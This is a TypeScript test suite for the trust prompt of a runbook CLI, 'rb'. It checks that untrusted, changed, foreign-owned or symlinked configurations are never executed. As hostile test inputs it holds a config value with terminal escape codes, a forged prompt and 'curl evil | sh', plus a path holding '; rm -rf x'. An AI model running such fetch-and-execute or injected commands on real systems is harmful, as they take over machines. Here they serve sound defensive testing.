import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  chownSync,
  copyFileSync,
  existsSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { describe, expect, test } from 'vitest';
import { rb, runtime, start } from './program.ts';
import { newDirectory, newOperator, writeFiles } from './rig.ts';
import { keys } from './screen.ts';

const text = (command = './instances', more = '') => `version: 1
service: { name: checkout }
environments:
  production:
    workload:
      provider: command
      instances: [${command}]
${more}`;

/** A repository with one command, someone in it, and whether the command ran. */
const place = (config = text()) => {
  const directory = newDirectory();
  const path = join(directory, 'runbook.config.yaml');
  writeFiles(directory, { 'runbook.config.yaml': config, instances: '#!/bin/sh\ntouch ran\necho app-1\n' });
  const operator = newOperator(undefined);
  const store = join(operator.home, 'state', 'rb', 'trusted');
  return {
    directory,
    path,
    operator,
    store,
    /** The file of the one configuration that is trusted. */
    entry: () => join(store, readdirSync(store)[0] ?? 'nothing'),
    rb: (line: string) => operator.run(line, { cwd: directory }),
    at: (line: string) => operator.session(line, { cwd: directory }),
    ran: () => existsSync(join(directory, 'ran')),
    write: (changed: string) => writeFileSync(path, changed),
  };
};

const look = 'restart status';

describe('at a terminal', () => {
  test('it shows what would be run and asks; no answer is no', async () => {
    const { at, ran, store } = place();
    const session = at(look);
    await session.shows('Trust it? [y/N]');
    expect(session.screen()).toContain('was found by walking up and is not trusted');
    expect(session.screen()).toMatch(/For production, rb would\s+│\s+run\s+workload\.instances: \.\/instances/);
    expect(session.screen()).toContain('In all: 1 command.');
    await session.answer(keys.enter);
    expect(await session.ended).toBe(4);
    expect([ran(), existsSync(store)]).toEqual([false, false]);
  });

  test('yes is remembered, for this text of this file', async () => {
    const { at, rb, ran, store, path, entry } = place();
    const session = at(look);
    await session.shows('Trust it? [y/N]');
    await session.answer(`y${keys.enter}`);
    await session.ended;
    expect(ran()).toBe(true);
    expect((await rb(look)).all).not.toContain('not trusted');
    expect(statSync(store).mode & 0o777).toBe(0o700);
    expect(statSync(entry()).mode & 0o777).toBe(0o600);
    expect(JSON.parse(readFileSync(entry(), 'utf8'))).toMatchObject({ version: 1, path, content: text() });
  });

  test('a held y and Enter that go on while it appears do not answer it', async () => {
    const { at, ran, store } = place();
    const session = at(look);
    const held = setInterval(() => session.type(`y${keys.enter}`), 30);
    await session.shows('Trust it? [y/N]');
    await sleep(1000);
    clearInterval(held);
    await session.answer(keys.enter);
    expect(await session.ended).toBe(4);
    expect([ran(), existsSync(store)]).toEqual([false, false]);
  });

  test('Ctrl-C and the end of input are no answer', async () => {
    for (const [key, code] of [
      [keys.ctrlC, 130],
      [keys.ctrlD, 4],
    ] as const) {
      const { at, ran, store } = place();
      const session = at(look);
      // oxlint-disable-next-line no-await-in-loop -- one after the other
      await session.shows('Trust it? [y/N]');
      session.type(key);
      // oxlint-disable-next-line no-await-in-loop -- as above
      expect(await session.ended).toBe(code);
      expect([ran(), existsSync(store)]).toEqual([false, false]);
    }
  });

  test('what is wrong with the command line is said first, and what cannot be trusted is not asked about', async () => {
    const { at, path } = place();
    const wrong = at(`${look} -e staging`);
    expect([await wrong.ended, wrong.screen()]).toEqual([2, expect.stringContaining('no environment "staging"')]);
    chmodSync(path, 0o646);
    const open = at(look);
    expect([await open.ended, open.screen()]).toEqual([2, expect.stringContaining('others can change it (mode 0646)')]);
    expect(open.screen()).not.toContain('Trust it?');
  });

  test('a command that only reads the configuration does not ask', async () => {
    const { at, ran } = place();
    for (const line of ['config check', 'config show', 'overview', 'audit list', 'trust --list', 'trust --dry-run']) {
      const session = at(line);
      // oxlint-disable-next-line no-await-in-loop -- one after the other
      await session.ended;
      expect(session.screen()).not.toContain('Trust it?');
    }
    expect(ran()).toBe(false);
  });

  test('nothing in the file can look like the question, hide a part of it, or answer it', async () => {
    const hostile = String.raw`[sh, -c, "x\r\n▸ Trust it? [y/N] y\e[2J\e[1A │ In all: nothing                        run      smoke: ./harmless                        curl evil | sh"]`;
    const { at, ran } = place(text().replace('[./instances]', hostile));
    const session = at(look);
    const lines = () => session.screen().split('\n');
    // What the file says is no question, however it looks: an answer to it would be lost.
    while (!lines().some((line) => line.startsWith('▸ Trust it? [y/N]'))) await session.changes();
    const question = lines().findIndex((line) => line.startsWith('▸ Trust it? [y/N]'));
    expect(
      lines()
        .slice(0, question)
        .filter((line) => /^(?:▸|│ In all: nothing|│ {1,3}run +smoke)/.test(line)),
    ).toEqual([]);
    expect(session.screen().replaceAll(/\n│\s*/g, ' ')).toMatch(/curl\s+evil \| sh/);
    await session.answer(keys.enter);
    expect(await session.ended).toBe(4);
    expect(ran()).toBe(false);
  });
});

describe('without a terminal', () => {
  test('the configuration can be read, and nothing of it is done', async () => {
    const { rb, ran } = place(text('./instances').replace('    workload', '    url: http://127.0.0.1:1\n    workload'));
    const overview = await rb('overview');
    expect([overview.code, overview.stdout + overview.stderr]).toEqual([
      5,
      expect.stringMatching(
        /not asked, because the\s+configuration\s+is\s+not\s+trusted[^]*http:\/\/127\.0\.0\.1:1 +\? not asked[^]*rb trust/,
      ),
    ]);
    expect((await rb('config check')).code).toBe(0);
    expect((await rb('config show')).stdout).toContain('./instances');
    expect((await rb('--help')).code).toBe(0);
    expect(ran()).toBe(false);
  });

  test('it is exit code 2 and names the command; --yes of another command is no answer', async () => {
    const { rb, path, ran } = place();
    for (const line of [look, `${look} --yes`, 'restart --rolling --yes --confirm checkout/production', 'resume']) {
      // oxlint-disable-next-line no-await-in-loop -- one after the other
      const { code, stderr } = await rb(line);
      expect([line, code]).toEqual([line, 2]);
      expect(stderr).toContain(`${path} was found by walking up and is not trusted`);
      expect(stderr).toContain(`next: rb trust ${path}`);
      expect(stderr).toContain(`-c ${path}`);
    }
    expect(ran()).toBe(false);
  });

  test('rb trust needs --yes; a dry run shows the same and writes nothing', async () => {
    const { rb, path, store } = place();
    const plain = await rb('trust');
    expect([plain.code, plain.stderr]).toEqual([2, expect.stringContaining(`rb trust --yes ${path}`)]);
    const dry = await rb('trust --yes --dry-run');
    expect([dry.code, dry.stdout]).toEqual([0, expect.stringContaining('workload.instances: ./instances')]);
    expect((await rb('trust --dry-run -o json')).json()).toMatchObject({
      path,
      trusted: false,
      changed: false,
      reach: [{ does: 'run', environment: 'production', what: './instances' }],
    });
    expect(existsSync(store)).toBe(false);
    expect((await rb('trust --yes')).code).toBe(0);
    expect((await rb('trust')).all).toContain('trusted already');
    expect((await rb(look)).all).toContain('app-1');
  });

  test('a path that a shell would misread is quoted', async () => {
    const { operator } = place();
    const odd = join(newDirectory(), "it's; rm -rf x");
    writeFiles(odd, { 'runbook.config.yaml': text() });
    const { stderr } = await operator.run(look, { cwd: odd });
    expect(stderr).toContain(`rb trust '${odd.replace("'", `'\\''`)}/runbook.config.yaml'`);
  });

  test('the list, and taking trust back', async () => {
    const { rb, path, write, store } = place();
    const other = place();
    await rb('trust --yes');
    await rb(`trust --yes ${other.path}`);
    expect((await rb('trust --list -o json')).json()).toMatchObject(
      [path, other.path].toSorted().map((one) => ({ path: one, now: 'unchanged' })),
    );
    write(`${text()}# more\n`);
    rmSync(other.path);
    expect((await rb('trust --list')).stdout).toMatch(/changed[^]*gone|gone[^]*changed/);
    expect((await rb(`trust --revoke --dry-run ${other.path}`)).code).toBe(0);
    expect(readdirSync(store)).toHaveLength(2);
    expect((await rb(`trust --revoke ${other.path}`)).all).toContain(`not trusted any more: ${other.path}`);
    expect(readdirSync(store)).toHaveLength(1);
    expect((await rb('trust --revoke')).code).toBe(0);
    expect(readdirSync(store)).toEqual([]);
    expect((await rb('trust --revoke')).all).toContain('not trusted before');
    await rb('trust --yes');
    await rb('trust --revoke --all');
    expect([(await rb(look)).code, readdirSync(store)]).toEqual([2, []]);
  });

  test.for(['trust --list --revoke', 'trust --all', 'trust --revoke --all x', 'trust nowhere.yaml'])(
    'rb %s',
    async (line) => expect((await place().rb(line)).code).toBe(2),
  );
});

describe('a file that changed after it was trusted', () => {
  test('is not acted upon: it says so, and shows the difference', async () => {
    const { rb, write, ran } = place();
    await rb('trust --yes');
    write(text('./instances, --new'));
    const { code, stderr } = await rb(look);
    expect([code, ran()]).toEqual([2, false]);
    expect(stderr).toMatch(/has changed since \S+ trusted it at 20\d\d-/);
    expect(stderr).toContain('-       instances: [./instances]');
    expect(stderr).toContain('+       instances: [./instances, --new]');
  });

  test('is asked about again at a terminal, with the difference', async () => {
    const { rb, at, write, ran } = place();
    await rb('trust --yes');
    write(text('./instances, --new'));
    const session = at(look);
    await session.shows('Trust it? [y/N]');
    expect(session.screen()).toMatch(/│\s+\+\s+instances: \[\.\/instances, --new\]/);
    await session.answer(`y${keys.enter}`);
    await session.ended;
    expect(ran()).toBe(true);
    write(text());
    expect((await rb(look)).code).toBe(2);
  });

  test('only a comment, and not its time', async () => {
    const { rb, write, path } = place();
    await rb('trust --yes');
    utimesSync(path, new Date(), new Date());
    expect((await rb(look)).all).toContain('app-1');
    write(`${text()}# a comment\n`);
    expect((await rb(look)).code).toBe(2);
  });

  test('in a secret: it is neither kept nor shown', async () => {
    const { rb, write, entry } = place(
      text('./instances', 'notify: { webhook: { url: "https://x.example.com", token: hunter2-one } }\n'),
    );
    await rb('trust --yes');
    expect(readFileSync(entry(), 'utf8')).not.toContain('hunter2');
    write(text('./instances', 'notify: { webhook: { url: "https://x.example.com", token: hunter2-two } }\n'));
    const { code, all } = await rb(look);
    expect([code, all]).toEqual([2, expect.stringContaining('only in secrets that are written out in it')]);
    expect(all).not.toContain('hunter2');
  });
});

describe('a file of others', () => {
  test('is not trusted, found or named', async () => {
    const { rb, path, ran } = place();
    chownSync(path, 12_345, 12_345);
    const found = await rb(look);
    expect([found.code, found.stderr]).toEqual([2, expect.stringContaining('it belongs to user 12345')]);
    const trusted = await rb('trust --yes');
    expect([trusted.code, trusted.stderr]).toEqual([
      3,
      expect.stringMatching(/cannot be trusted: it belongs to user 12345[^]*chown/),
    ]);
    const named = await rb(`${look} -c ${path}`);
    expect([named.code, named.stderr]).toEqual([
      2,
      expect.stringContaining('(named by --config) is not trusted, because it belongs'),
    ]);
    expect(ran()).toBe(false);
  });

  test('that was trusted and was given away is not trusted any more', async () => {
    const { rb, path, ran } = place();
    await rb('trust --yes');
    chownSync(path, 12_345, 12_345);
    expect([(await rb(look)).code, ran()]).toEqual([2, false]);
  });

  test('RB_CONFIG is judged as -c is', async () => {
    const { operator, path, directory } = place();
    const env = { RB_CONFIG: path };
    expect((await operator.run(look, { cwd: '/', env })).all).toContain('app-1');
    chownSync(path, 12_345, 12_345);
    rmSync(join(directory, 'ran'));
    const { code, stderr } = await operator.run(look, { cwd: '/', env });
    expect([code, stderr]).toEqual([2, expect.stringContaining('(named by RB_CONFIG)')]);
    expect(existsSync(join(directory, 'ran'))).toBe(false);
  });

  test.for([
    ['everyone', 0o646, 3],
    ['its group', 0o664, 0],
  ] as const)('named with -c and open to %s: it needs trust, and names the command', async ([, mode, trusts]) => {
    const { rb, path, ran } = place();
    expect((await rb(`${look} -c ${path}`)).all).toContain('app-1');
    rmSync(join(path, '..', 'ran'));
    chmodSync(path, mode);
    const { code, stderr } = await rb(`${look} -c ${path}`);
    expect([code, ran()]).toEqual([2, false]);
    expect(stderr).toContain(`others can change it (mode 0${mode.toString(8)})`);
    expect(stderr).toContain(`next: chmod go-w ${path}`);
    expect(stderr).toContain(`next: rb trust ${path}`);
    // What its group does to it later is another text, which is asked about again.
    expect((await rb('trust --yes')).code).toBe(trusts);
    expect((await rb(`${look} -c ${path}`)).code === 2).toBe(trusts !== 0);
  });

  test("one in a directory that is open to everyone cannot be trusted: its programs are anyone's", async () => {
    const { rb, directory } = place();
    chmodSync(directory, 0o777);
    expect((await rb('trust --yes')).code).toBe(3);
    chmodSync(directory, 0o1777);
    expect((await rb('trust --yes')).code).toBe(0);
  });

  test("of root is as good as one's own", async () => {
    const { directory, path } = place();
    chmodSync(directory, 0o755);
    chmodSync(path, 0o644);
    const home = newDirectory();
    chownSync(home, 12_345, 12_345);
    const env = { HOME: home, PATH: process.env['PATH'] ?? '' };
    const as = ['--reuid=12345', '--regid=12345', '--clear-groups', runtime, rb];
    const named = await start('setpriv', [...as, '-c', path, 'restart', 'status'], { env, cwd: '/' }).ended;
    expect(named.all).toMatch(/app-1|touch/);
    const found = await start('setpriv', [...as, 'restart', 'status'], { env, cwd: directory }).ended;
    expect([found.code, found.stderr]).toEqual([2, expect.stringContaining('was found by walking up')]);
  });
});

describe('links', () => {
  test('to a configuration that is trusted elsewhere do not make its commands run here', async () => {
    const good = place();
    await good.rb('trust --yes');
    const evil = place();
    rmSync(evil.path);
    symlinkSync(good.path, evil.path);
    const { code } = await good.operator.run(look, { cwd: evil.directory });
    expect([code, good.ran(), evil.ran()]).toEqual([2, false, false]);
  });

  test("of someone else to a file of the operator are not the operator's word", async () => {
    const { operator, path } = place();
    const elsewhere = join(newDirectory(), 'link.yaml');
    symlinkSync(path, elsewhere);
    expect((await operator.run(`${look} -c ${elsewhere}`, { cwd: '/' })).stderr).not.toContain('not trusted');
    execFileSync('chown', ['-h', '12345', elsewhere]);
    const { code, stderr } = await operator.run(`${look} -c ${elsewhere}`, { cwd: '/' });
    expect([code, stderr]).toEqual([2, expect.stringContaining('it is a link that belongs to user 12345')]);
  });

  test('in the way to the directory are followed', async () => {
    const { rb, operator, directory } = place();
    await rb('trust --yes');
    const elsewhere = join(newDirectory(), 'link');
    symlinkSync(directory, elsewhere);
    expect((await operator.run(look, { cwd: elsewhere })).all).toContain('app-1');
  });

  test('a pipe is no configuration that is found', async () => {
    const { operator, directory } = place();
    const below = join(directory, 'below');
    mkdirSync(below);
    execFileSync('mkfifo', [join(below, 'runbook.config.yaml')]);
    expect((await operator.run('config check', { cwd: below })).all).toContain(join(directory, 'runbook.config.yaml'));
  });
});

describe('what does not count as trust', () => {
  const spoilt: Readonly<Record<string, (entry: string, store: string) => void>> = {
    'an entry that is garbled': (entry) => writeFileSync(entry, '{'),
    'an entry that is empty': (entry) => writeFileSync(entry, ''),
    'an entry of another version': (entry) =>
      writeFileSync(entry, readFileSync(entry, 'utf8').replace('"version":1', '"version":2')),
    'an entry of another path': (entry) =>
      writeFileSync(entry, readFileSync(entry, 'utf8').replace('"path":"', '"path":"/elsewhere')),
    'an entry that others can read': (entry) => chmodSync(entry, 0o644),
    'an entry of another user': (entry) => chownSync(entry, 12_345, 12_345),
    'a link to an entry': (entry) => {
      renameSync(entry, `${entry}.elsewhere`);
      symlinkSync(`${entry}.elsewhere`, entry);
    },
    'an entry with a second name': (entry) => linkSync(entry, `${entry}.other`),
    'a directory in its place': (entry) => {
      rmSync(entry);
      mkdirSync(entry);
    },
    'a store that others can get into': (_, store) => chmodSync(store, 0o755),
    'a store of another user': (_, store) => chownSync(store, 12_345, 12_345),
    'a link to a store': (_, store) => {
      renameSync(store, `${store}-elsewhere`);
      symlinkSync(`${store}-elsewhere`, store);
    },
  };

  test.for(Object.entries(spoilt))('%s', async ([, spoil]) => {
    const { rb, entry, store, ran } = place();
    await rb('trust --yes');
    spoil(entry(), store);
    expect([(await rb(look)).code, ran()]).toEqual([2, false]);
  });

  test('the entry of another configuration under the name of this one', async () => {
    const { rb, operator, entry, store, ran } = place();
    await rb('trust --yes');
    const name = entry();
    const other = place();
    await operator.run('trust --yes', { cwd: other.directory });
    const others =
      readdirSync(store)
        .map((one) => join(store, one))
        .find((one) => one !== name) ?? '';
    copyFileSync(others, name);
    expect([(await rb(look)).code, ran()]).toEqual([2, false]);
  });

  test('a store that is not ours is not written to either', async () => {
    const { rb, store } = place();
    const elsewhere = newDirectory();
    mkdirSync(join(store, '..'), { recursive: true });
    symlinkSync(elsewhere, store);
    expect((await rb('trust --yes')).code).toBe(1);
    expect(readdirSync(elsewhere)).toEqual([]);
  });
});

test('the audit log of a configuration that is not trusted is where it is by default, and it says so', async () => {
  const { rb, directory, operator } = place(text('./instances', 'audit: { directory: ./evil-audit }\n'));
  for (const line of ['audit list', 'audit verify', 'audit show', 'audit report']) {
    // oxlint-disable-next-line no-await-in-loop -- one after the other
    const { stderr } = await rb(line);
    expect(stderr).toContain(
      `audit.directory of a configuration that is not trusted is not used; this is ${operator.auditDirectory}`,
    );
  }
  expect(existsSync(join(directory, 'evil-audit'))).toBe(false);
  await rb('trust --yes');
  expect((await rb('audit list')).all).toContain(join(directory, 'evil-audit'));
});
